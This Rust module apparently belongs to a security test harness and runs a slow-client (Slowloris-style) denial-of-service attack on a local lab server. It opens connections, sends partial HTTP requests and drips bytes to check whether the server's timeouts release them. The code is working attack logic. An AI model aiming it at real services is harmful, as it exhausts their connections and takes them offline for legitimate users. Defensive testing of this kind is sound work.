//! Slow clients: connections that never finish what they say.

use std::io;
use std::time::Duration;

use evidence::Failure;
use futures_util::future::join_all;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use super::Attack;
use super::attacker::Attacker;

pub(super) const ATTACK: Attack = Attack {
    id: "slow-client",
    name: "slow client",
    what: "connections held open",
    run: |attacker| Box::pin(attack(attacker)),
};

/// Far below every time-out that starts anew with each byte.
const DRIP: Duration = Duration::from_millis(100);
/// Bytes that a connection must take to count: three seconds of them, where the bounds of the lab
/// add up to less than two. Counted and not timed, as a busy machine delays both sides.
const DRIPS: u32 = 30;

/// A whole request first where the second head is meant: the time-out that libraries have covers
/// the first one alone.
const BEGINNINGS: [(&str, bool); 3] = [
    ("GET /lab/keys HTTP/1.1\r\nhost: lab\r\nx-slow: ", false),
    ("GET /lab/keys HTTP/1.1\r\nhost: lab\r\nx-slow: ", true),
    (
        "POST /lab/comments HTTP/1.1\r\nhost: lab\r\ncontent-type: application/json\r\n\
         content-length: 1000\r\n\r\n{\"text\":\"",
        false,
    ),
];
/// Connections of each kind.
const EACH: usize = 4;

async fn attack(attacker: &Attacker<'_>) -> Result<u64, Failure> {
    let connections = BEGINNINGS.iter().flat_map(|beginning| [beginning; EACH]);
    let holding = connections.map(|(beginning, second)| hold(attacker, beginning, *second));
    let held = join_all(holding).await.into_iter().collect::<io::Result<Vec<bool>>>()?;
    Ok(held.into_iter().filter(|held| *held).count() as u64)
}

/// Whether the server still waits after the last drip.
async fn hold(attacker: &Attacker<'_>, beginning: &str, second: bool) -> io::Result<bool> {
    let mut connection = TcpStream::connect(attacker.lab.address()).await?;
    let mut answer = [0; 4_096];
    if second {
        connection.write_all(b"GET /lab/keys HTTP/1.1\r\nhost: lab\r\n\r\n").await?;
        if connection.read(&mut answer).await? == 0 {
            return Ok(false);
        }
    }
    connection.write_all(beginning.as_bytes()).await?;
    for _ in 0..DRIPS {
        // Anything that comes, also an end, means that the server no longer waits.
        if tokio::time::timeout(DRIP, connection.read(&mut answer)).await.is_ok() {
            return Ok(false);
        }
        if connection.write_all(b"a").await.is_err() {
            return Ok(false);
        }
    }
    Ok(true)
}
